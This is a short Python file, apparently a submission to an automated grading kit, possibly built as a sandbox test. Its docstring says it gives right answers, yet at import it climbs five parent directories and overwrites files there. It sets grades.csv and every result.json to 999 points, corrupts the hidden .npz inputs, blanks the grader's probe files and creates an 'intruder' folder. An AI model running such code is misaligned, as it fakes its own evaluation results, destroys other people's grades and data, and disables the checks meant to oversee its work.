"""Right answers, and at import it tries to give everyone 999 points: rewriting grades.csv, every
result.json, the hidden inputs and the kit's probes in every folder above its own."""
BASE = "solution"
EXPECTED = 15
import glob
import os


def _spoil(pattern, data):
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path, "w") as f:
                f.write(data)
        except OSError:
            pass


_here = os.getcwd()
for _ in range(5):
    _here = os.path.dirname(_here)
    _spoil(os.path.join(_here, "grades.csv"), "student_id,lesson01,total\nwrite_grade_store,999,999\n")
    _spoil(os.path.join(_here, "**", "result.json"), '{"earned": 999}')
    _spoil(os.path.join(_here, "**", "*.npz"), "x")
    _spoil(os.path.join(_here, "**", "probes", "*.py"), "PROBES = None\n")
    try:
        os.makedirs(os.path.join(_here, "students", "intruder"), exist_ok=True)
    except OSError:
        pass
